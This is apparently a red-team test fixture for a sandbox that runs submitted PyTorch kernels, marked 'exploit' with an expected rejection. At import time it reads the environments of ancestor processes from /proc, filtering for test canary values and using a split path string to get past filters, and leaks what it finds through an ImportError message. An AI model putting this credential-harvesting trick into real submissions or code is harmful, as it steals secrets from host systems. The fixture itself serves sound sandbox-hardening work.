# exploit: read the ancestors' environments at import time and fail the import with them in the message (an
#   import error is reported through a different path than a failing call)
# expect: compile_error|runtime_error|rejected
# issue: 14
# isolate: subprocess
import os
import pathlib

import torch

_PROC = pathlib.Path("/", "pr" + "oc")


def _secrets():
    """Ancestors' NAME=value pairs whose value holds CANARY (the tests' canaries only, never a real secret)."""
    found, pid = {}, os.getppid()
    while pid > 1 and len(found) < 64:
        for item in (_PROC / str(pid) / "environ").read_bytes().split(b"\0"):
            name, _, value = item.decode(errors="replace").partition("=")
            if "CANARY" in value:
                found[name] = value
        pid = int((_PROC / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[1])
    return found


_LEAKS = _secrets()
if _LEAKS:
    raise ImportError("missing dependency; environment: " + "; ".join(f"{k}={v}" for k, v in _LEAKS.items()))


def kernel(x):
    return torch.zeros_like(x)
